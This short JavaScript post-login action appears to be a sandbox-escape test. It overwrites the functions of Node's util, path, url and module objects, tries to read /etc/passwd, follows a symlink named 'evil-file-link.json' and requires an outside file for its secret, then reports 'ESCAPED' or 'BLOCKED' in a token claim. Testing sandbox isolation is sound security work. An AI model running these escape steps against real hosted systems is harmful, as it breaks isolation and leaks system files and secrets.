// util, util.types, path and url replaced before files and modules are asked for
exports.onExecutePostLogin = async (event, api) => {
  const S = event.secrets;
  const out = (v) => { try { api.idToken.setCustomClaim('probe', String(v).slice(0, 400)); } catch {} };
  const found = [];
  const attempt = async (label, act) => { try { const r = await act(); if (r) found.push(label + ' ' + String(r).slice(0, 80)); } catch {} };
  api.idToken.setCustomClaim('genuine', 1);
  const util = require('util'), path = require('path'), url = require('url');
  for (const m of [util, util.types, path, url, require('buffer').Buffer, require('module')]) for (const k of Object.keys(m)) try { if (typeof m[k] === 'function') m[k] = () => S.NODE_MODULES + '/lodash/package.json'; } catch {}
  await attempt('read', () => require('fs').readFileSync('/etc/passwd').length); await attempt('read link', () => require('fs').readFileSync(S.NODE_MODULES + '/evil-file-link.json', 'utf8')); await attempt('require', () => require(S.OUTSIDE_JSON).secret);
  api.accessToken.setCustomClaim('genuine2', 2);
  out(found.length > 0 ? 'ESCAPED:' + found.join('; ') : 'BLOCKED:nothing worked');
};
